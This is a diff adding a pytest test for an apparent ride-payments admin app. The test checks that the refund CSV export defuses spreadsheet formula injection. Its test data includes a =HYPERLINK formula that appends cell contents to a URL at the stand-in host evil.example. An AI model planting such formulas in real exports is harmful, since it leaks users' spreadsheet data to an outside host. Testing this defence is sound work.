@@ -151,6 +151,30 @@ def test_csv_export_follows_the_filters(admin_client, admin_user):
     assert rows[0]["initiated_by"] == admin_user.email and rows[0]["ride"] == str(ride.pk)
 
 
+@pytest.mark.parametrize(
+    ("typed", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+        ),
+        ("+1 555 cmd", "'+1 555 cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tTab first", "'\tTab first"),
+        ("\rReturn first", "'\rReturn first"),
+        ("Dog was late, sorry", "Dog was late, sorry"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(admin_client, admin_user, typed, cell):
+    ride = done_ride()
+    ledger_row(ride, "refund", amount=700, reason=typed, initiated_by=admin_user)
+    response = admin_client.get(CSV_URL, {"kind": "refund"})
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["reason"] == cell
+    assert row["amount"] == "7.00" and row["ride"] == str(ride.pk)  # numbers stay numbers
+
+
 @pytest.mark.parametrize("url", [PAYMENTS, CSV_URL])
 @denied("admin")
 def test_payments_pages_are_for_operations_only(request, url, client_name, expected):
